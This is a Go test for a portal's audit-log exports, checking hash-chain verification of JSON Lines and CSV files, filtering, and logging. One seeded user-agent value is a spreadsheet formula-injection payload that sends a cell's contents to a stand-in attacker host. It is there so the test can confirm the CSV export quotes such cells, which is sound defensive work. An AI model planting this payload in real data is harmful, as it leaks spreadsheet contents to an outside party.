	for _, e := range events {
		h, err := e.ChainHash(e.PrevHash)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(h, e.Hash) || (linked && (!bytes.Equal(e.PrevHash, prev) || e.At.Before(prevAt))) {
			return e.ID
		}
		prev, prevAt = e.Hash, e.At
	}
	return 0
}

func TestAuditExportsVerifyOffline(t *testing.T) {
	t.Parallel()
	p := newPortal(t, portalOptions{})
	sam := p.signedIn("sam@2i2c.org")
	// More events than one flush, one with a user agent a spreadsheet would
	// run as a formula, one with a number beyond float64's digits.
	seedAudit(t, p, 2345, func(i int, e *portal.AuditEvent) {
		switch i {
		case 7:
			e.UserAgent = `=HYPERLINK("https://evil.example/?"&A1,"click")`
		case 8:
			e.UserAgent = `'quoted`
		case 9:
			e.Details = map[string]any{"big": int64(1)<<62 + 1, "text": "tab\there, \"quotes\", <&>"}
		}
	})
	total := p.count(`SELECT count(*) FROM audit_events`)

	r := sam.get("/staff/audit/export.jsonl")
	today := time.Now().UTC().Format("2006-01-02")
	if r.StatusCode != http.StatusOK || r.Header.Get("Content-Disposition") != `attachment; filename="audit-`+today+`.jsonl"` ||
		!strings.HasPrefix(r.Header.Get("Content-Type"), "application/x-ndjson") {
		t.Fatalf("JSON Lines export: %d, %q, %q", r.StatusCode, r.Header.Get("Content-Disposition"), r.Header.Get("Content-Type"))
	}
	events := readJSONL(t, r.Body)
	if len(events) != total || !slices.IsSortedFunc(events, func(a, b portal.AuditEvent) int { return int(a.ID - b.ID) }) {
		t.Fatalf("%d lines, want all %d events oldest first", len(events), total)
	}
	if broken := verifyOffline(t, events, true); broken != 0 {
		t.Errorf("the export does not verify offline at event %d", broken)
	}

	// The CSV export holds the same, with formula-looking cells quoted.
	r = sam.get("/staff/audit/export.csv")
	if r.StatusCode != http.StatusOK || r.Header.Get("Content-Disposition") != `attachment; filename="audit-`+today+`.csv"` {
		t.Fatalf("CSV export: %d, %q", r.StatusCode, r.Header.Get("Content-Disposition"))
	}
	records, err := csv.NewReader(strings.NewReader(r.Body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(records[0], auditCSVColumns) || len(records) != total+1 {
		t.Fatalf("CSV: header %v, %d rows; want %d", records[0], len(records)-1, total)
	}
	col := map[string]int{}
	for i, name := range records[0] {
		col[name] = i
	}
	var fromCSV []portal.AuditEvent
	for _, rec := range records[1:] {
		fromCSV = append(fromCSV, exportedEvent(t, func(name string) string {
			return strings.TrimPrefix(rec[col[name]], "'") // undo the spreadsheet quoting
		}))
		if ua := rec[col["user_agent"]]; strings.HasPrefix(ua, "=") || ua == "'quoted" {
			t.Errorf("CSV cell %q is not quoted for spreadsheets", ua)
		}
	}
	if broken := verifyOffline(t, fromCSV, true); broken != 0 {
		t.Errorf("the CSV export does not verify offline at event %d", broken)
	}

	// A filtered export holds the selection; each event checks out alone.
	r = sam.get("/api/v1/audit/export?format=jsonl&actor=user2@example.org")
	n := strings.Count(r.Body, "\n")
	events = readJSONL(t, r.Body)
	for _, e := range events {
		if e.Actor != "user2@example.org" {
			t.Fatalf("filtered export holds event %d by %s", e.ID, e.Actor)
		}
	}
	if n != 2345/3 || verifyOffline(t, events, false) != 0 {
		t.Errorf("filtered export: %d lines, want %d that each verify", n, 2345/3)
	}
	if r := sam.get("/api/v1/audit/export?format=xml"); r.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(r.Body, `"field":"format"`) {
		t.Errorf("export as xml: %d %s", r.StatusCode, r.Body)
	}
	// Exports are logged, not audited: reading changes nothing.
	if !strings.Contains(p.logs.String(), `"msg":"audit export"`) {
		t.Error("no log line for the exports")
	}
	if n := p.count(`SELECT count(*) FROM audit_events`); n != total {
		t.Errorf("exporting wrote %d audit events", n-total)
	}
}
